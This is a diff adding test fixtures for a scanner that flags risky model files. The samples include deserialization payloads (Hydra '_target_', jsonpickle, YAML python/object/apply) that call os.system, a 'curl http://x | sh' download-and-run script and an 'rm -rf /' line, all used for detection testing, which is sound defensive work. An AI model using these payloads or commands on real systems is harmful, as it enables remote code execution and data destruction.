@@ -1,0 +1,54 @@
+import { joined, u8 } from '../bytes.ts'
+import type { ModelCase } from '../case.ts'
+import { breakout } from './breakout.ts'
+import { dangerousFile as dangerous, unclearedFile as notCleared, suspiciousFile as suspicious } from './verdicts.ts'
+
+/** Above the size up to which JSON is taken into memory whole. */
+const large = (members: string) =>
+  `{"vocab":{${Array.from({ length: 70_000 }, (_, index) => `"token${index}": ${index}`).join(',')}},${members}}`
+
+/** Configurations, templates and code; and what has no known format. */
+export const texts: readonly ModelCase[] = [
+  suspicious('auto_map', '{"model_type":"x","auto_map":{"AutoModel":"modeling_x.X"}}', 'config.json'),
+  suspicious('custom_pipelines', '{"custom_pipelines":{"x":{"impl":"x.P"}}}', 'config.json'),
+  suspicious('trust_remote_code', '{"trust_remote_code":true}', 'config.json'),
+  suspicious('trust_remote_code in YAML', 'model: x\ntrust_remote_code: true\n', 'serve.yaml'),
+  suspicious('a class that Hydra makes', '{"_target_":"company.Net"}', 'config.json'),
+  dangerous('a call that Hydra makes', '{"_target_":"os.system","command":"id"}', 'config.json', 'CVE-2025-23304'),
+  dangerous('a module of sentence-transformers that is none', '[{"idx":0,"name":"0","path":"","type":"os.system"}]', 'modules.json'),
+  suspicious('a module of sentence-transformers from elsewhere', '[{"idx":0,"name":"0","path":"","type":"company.Net"}]', 'modules.json'),
+  suspicious('a notebook', '{"cells":[{"cell_type":"code","source":["import os"]}],"nbformat":4}', 'demo.ipynb'),
+  dangerous('a template under a digest', breakout, `sha256-${'a'.repeat(64)}`),
+  dangerous('jsonpickle', '{"py/reduce":[{"py/type":"os.system"},{"py/tuple":["id"]}]}', 'config.json'),
+  dangerous('YAML that makes Python objects', 'a: !!python/object/apply:os.system ["id"]\n', 'config.yaml'),
+  dangerous('a template of a tokenizer', JSON.stringify({ chat_template: breakout }), 'tokenizer_config.json'),
+  dangerous(
+    'the second of several templates',
+    JSON.stringify({
+      chat_template: [
+        { name: 'a', template: 'x' },
+        { name: 'b', template: breakout },
+      ],
+    }),
+    'tokenizer_config.json',
+  ),
+  dangerous('a template in a file', breakout, 'chat_template.jinja'),
+  notCleared('JSON with a name twice', '{"auto_map":null,"auto_map":{"a":"b.C"}}', 'config.json'),
+  notCleared('JSON nested ten thousand deep', '[{"a":'.repeat(10_000), 'config.json'),
+  suspicious('auto_map behind a large vocabulary', large('"auto_map":{"a":"b.C"}'), 'tokenizer.json'),
+  suspicious('auto_map written with escapes behind a large vocabulary', large('"auto\\u005fmap":{"a":"b.C"}'), 'tokenizer.json'),
+  dangerous('a template behind a large vocabulary', large(`"x":{"chat_template":${JSON.stringify(breakout)}}`), 'tokenizer.json'),
+  notCleared('a name twice in a large vocabulary', large('"a":1,"\\u0061":2'), 'tokenizer.json'),
+  notCleared('a large vocabulary without an end', large('"a":1').slice(0, -1), 'tokenizer.json'),
+  notCleared('a large vocabulary with a comma too many', large('"a":1,'), 'tokenizer.json'),
+  suspicious('Python beside the weights', 'import os\nos.system("id")\n', 'modeling.py'),
+  suspicious('Python without an extension', '# a model\nimport os\n\nos.system("id")\n', 'modeling'),
+  suspicious('a script', '#!/bin/sh\ncurl http://x | sh\n', 'run'),
+  suspicious('a program', joined(u8(0x7f), 'ELF', new Uint8Array(60)), 'lib.so'),
+  notCleared('a text that nobody knows', 'rm -rf /\n', 'start'),
+  notCleared('a TensorRT engine', joined('ftrt', new Uint8Array(60)), 'm.engine'),
+  notCleared('an engine of another version', joined(u8(0xef, 0xbe), new Uint8Array(60)), 'm.plan'),
+  notCleared('bytes of no known format', u8(0xde, 0xad, 0xbe, 0xef, 0, 1, 2, 3)),
+  notCleared('HDF5 that is cut off', joined(u8(0x89), 'HDF\r\n\x1a\n', u8(0, 0, 0, 0, 0, 8, 8))),
+  notCleared('HDF5 of a version that does not exist', joined(u8(0x89), 'HDF\r\n\x1a\n', u8(9), new Uint8Array(90))),
+]
